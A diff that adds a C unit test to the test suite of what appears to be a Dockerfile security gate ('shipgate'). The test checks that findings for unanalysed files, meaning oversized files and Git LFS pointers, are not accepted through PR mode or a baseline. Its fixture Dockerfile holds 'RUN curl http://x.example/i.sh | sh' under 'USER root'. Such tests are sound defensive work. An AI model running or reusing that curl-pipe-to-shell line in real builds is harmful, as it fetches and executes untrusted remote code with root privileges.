@@ -354,6 +354,126 @@ static void mkrepo_from(const char *dir, const char *const *const *commits,
 	t_mkrepo(repo, false, dirs);
 }
 
+/* `why` of the one finding of `rule` in a JSON report (the caller frees). */
+static char *why_of(const char *json_path, const char *rule)
+{
+	json_t *j = load_json(json_path), *f;
+	char *why = NULL;
+	size_t i;
+
+	json_array_foreach(json_object_get(j, "findings"), i, f)
+		if (!strcmp(json_string_value(json_object_get(f, "rule")), rule)) {
+			ck_assert_ptr_null(why);
+			why = strdup(json_string_value(json_object_get(f, "why")));
+		}
+	json_decref(j);
+	ck_assert_msg(why != NULL, "%s: no %s finding", json_path, rule);
+	return why;
+}
+
+/*
+ * A file the gate did not read (over the size cap, a Git LFS pointer) has a
+ * finding with a fixed key, the same whatever the file holds.  Neither PR
+ * mode's "unchanged" nor a baseline may accept it: the change below adds
+ * USER root and curl | sh behind the cap and must not pass (exit 3); only
+ * the policy's explicit word does.
+ */
+START_TEST(test_cli_unanalysed_never_unchanged_nor_baselined)
+{
+	static const char pad[] =
+		"# padding padding padding padding padding padding padding\n"
+		"# padding padding padding padding padding padding padding\n"
+		"# padding padding padding padding padding padding padding\n"
+		"# padding padding padding padding padding padding padding\n";
+	static const char policy[] =
+		"version: 1\ngate: new\nmax-file-size: 200B\n";
+	static const char ignoring[] =
+		"version: 1\ngate: new\nmax-file-size: 200B\nignore:\n"
+		"  - rule: SGG001\n    reason: generated, reviewed elsewhere\n"
+		"  - rule: SGG002\n    reason: generated, reviewed elsewhere\n";
+	char *dir = t_tmpdir("pr-unanalysed"), repo[4300], *out = NULL, *why;
+	char v1[512], v2[512], lfs1[256], lfs2[256], baseline[4400];
+	char json[4400], ign[4400];
+	const char *const c1[] = { ".shipgate.yaml", policy, "Dockerfile", v1,
+				   "lfs.Dockerfile", lfs1, NULL };
+	const char *const c2[] = { ".shipgate.yaml", policy, "Dockerfile", v2,
+				   "lfs.Dockerfile", lfs2, NULL };
+	const char *const *commits[] = { c1, c2, NULL };
+	const char *pr[] = { "--base", "HEAD~1", "--json", json, NULL };
+	const char *bl[] = { "--baseline", baseline, "--json", json, NULL };
+	const char *pr_ign[] = { "--base", "HEAD~1", "--policy", ign, "-q", NULL };
+	const char *write[] = { "baseline", "write", baseline, repo, "--rev",
+				"HEAD~1", NULL };
+	const char *old[] = { "--rev", "HEAD~1", "-q", NULL };
+
+	snprintf(v1, sizeof(v1), "FROM debian:12\nUSER app\n%s", pad);
+	snprintf(v2, sizeof(v2), "FROM debian:12\nUSER root\n"
+		 "RUN curl http://x.example/i.sh | sh\n%s", pad);
+	snprintf(lfs1, sizeof(lfs1), "version https://git-lfs.github.com/spec/v1\n"
+		 "oid sha256:%064d\nsize 120\n", 1);
+	snprintf(lfs2, sizeof(lfs2), "version https://git-lfs.github.com/spec/v1\n"
+		 "oid sha256:%064d\nsize 4321\n", 2);
+	ck_assert_uint_gt(strlen(v1), 200);
+	mkrepo_from(dir, commits, repo, sizeof(repo));
+	snprintf(json, sizeof(json), "%s/r.json", dir);
+	snprintf(baseline, sizeof(baseline), "%s/baseline.json", dir);
+	snprintf(ign, sizeof(ign), "%s/ignore.yaml", dir);
+	t_write(ign, ignoring);
+
+	/* both revisions: not analysed, same findings, same fingerprints */
+	ck_assert_int_eq(scan(repo, old, NULL, NULL), 3);
+	ck_assert_int_eq(scan(repo, pr, &out, NULL), 3);
+	ck_assert_msg(strstr(out, "Dockerfile: medium SGG001") &&
+		      strstr(out, "lfs.Dockerfile: medium SGG002") &&
+		      !strstr(out, "not-new"), "%s", out);
+	free(out);
+	why = why_of(json, "SGG001");
+	ck_assert_msg(strstr(why, "present on the base revision, but the "
+				  "input could not be analysed"), "%s", why);
+	free(why);
+
+	/* `baseline write` on the first commit leaves both out ... */
+	ck_assert_int_eq(t_run(NULL, &out, NULL, write), 0);
+	ck_assert_msg(strstr(out, "2 findings of inputs that could not be "
+				  "analysed left out"), "%s", out);
+	free(out);
+	out = t_read(baseline, NULL);
+	ck_assert_msg(!strstr(out, "SGG00"), "%s", out);
+	free(out);
+	ck_assert_int_eq(scan(repo, bl, &out, NULL), 3);
+	free(out);
+	/* ... and a baseline that lists them (as older versions wrote it)
+	 * accepts neither */
+	{
+		const char *a[] = { "--rev", "HEAD~1", "--json", json, "-q", NULL };
+		json_t *j, *fs = json_array(), *f;
+		size_t i;
+
+		ck_assert_int_eq(scan(repo, a, NULL, NULL), 3);
+		j = load_json(json);
+		json_array_foreach(json_object_get(j, "findings"), i, f)
+			json_array_append_new(fs, json_pack("{s:O}", "fingerprint",
+					json_object_get(f, "fingerprint")));
+		json_decref(j);
+		j = json_pack("{s:i, s:s, s:o}", "shipgate_baseline", 1,
+			      "created", "2026-01-01", "findings", fs);
+		ck_assert_int_eq(json_dump_file(j, baseline, 0), 0);
+		json_decref(j);
+	}
+	ck_assert_int_eq(scan(repo, bl, &out, NULL), 3);
+	ck_assert_msg(!strstr(out, "baselined"), "%s", out);
+	free(out);
+	why = why_of(json, "SGG002");
+	ck_assert_msg(strstr(why, "in the baseline, but the input could not be "
+				  "analysed"), "%s", why);
+	free(why);
+
+	/* the policy's explicit ignore does */
+	ck_assert_int_eq(scan(repo, pr_ign, NULL, NULL), 0);
+	free(dir);
+}
+END_TEST
+
 /*
  * Fingerprints number the copies of one finding in line order.  A new copy
  * placed above a suppressed one must not take its identity: the suppressed
@@ -755,6 +875,7 @@ Suite *cli_suite(void)
 	tcase_add_test(tc, test_cli_pr_resolved_values_are_identity);
 	tcase_add_test(tc, test_cli_pr_long_instruction_is_identity);
 	tcase_add_test(tc, test_cli_pr_identity_ignores_stage_position_and_layout);
+	tcase_add_test(tc, test_cli_unanalysed_never_unchanged_nor_baselined);
 	tcase_add_test(tc, test_cli_pr_new_copy_above_suppressed_gates);
 	tcase_add_test(tc, test_cli_worktree_sees_uncommitted_changes);
 	tcase_add_test(tc, test_cli_usage_errors_exit_2);
